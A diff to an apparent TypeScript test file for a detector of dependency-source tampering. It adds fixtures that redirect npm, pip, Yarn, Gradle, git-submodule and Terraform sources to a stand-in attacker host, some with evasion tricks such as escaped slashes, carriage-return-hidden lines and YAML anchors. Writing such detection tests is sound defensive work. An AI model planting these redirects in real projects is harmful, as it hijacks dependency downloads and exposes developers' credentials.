@@ -12,6 +12,15 @@ const commit = (letter: string) => letter.repeat(40);
 const moved: readonly Row[] = [
   ['.npmrc', 'save-exact=true\n', `save-exact=true\nregistry=${evil}\n`],
   ['.npmrc', 'a=b\n', `a=b\n@acme:registry = "${evil}"\n`],
+  ['.npmrc', '', `"registry" = "https:\\u002f\\u002fevil.example/"\n`],
+  ['.npmrc', '', `# why\rregistry=${evil}\n`],
+  ['pip.conf', '', `[global]\nIndex-URL = ${evil}\n`],
+  ['.gitmodules', '', `[submodule "x"] url = ${evil}x.git\n\tpath = x\n`],
+  ['.yarnrc.yml', 'a: 1\n', `x: &x\n  npmRegistryServer: ${evil}\n<<: *x\n`],
+  ['build.gradle', 'a\n', `a\nrepositories { maven { credentials { username "x" }\n setUrl("${evil}") } }\n`],
+  ['build.gradle.kts', 'a\n', `a\nrepositories { maven(url = "${evil}") }\n`],
+  ['build.gradle', 'a\n', `a\napply from: "${evil}x.gradle"\n`],
+  ['main.tf', 'a\n', 'a\nrequired_providers { x = {\n source = "evil.example/acme/x"\n} }\n'],
   ['web/.npmrc', '', `registry = https://user:secret@evil.example/\n`],
   ['.yarnrc', '', `registry "${evil}"\n`],
   ['.yarnrc', '', `"@acme:registry" "${evil}"\n`],
@@ -153,6 +162,7 @@ const quiet: readonly Row[] = [
     'a\n',
     'a\nmodule "x" {\n  source = "terraform-aws-modules/vpc/aws"\n}\nmodule "y" {\n  source = "./y"\n}\n',
   ],
+  ['main.tf', 'a\n', 'a\n  source = "registry.terraform.io/hashicorp/aws"\n'],
   ['.mvn/maven.config', '-T1C\n', '-T2C\n--no-transfer-progress\n'],
   [
     'Dockerfile',
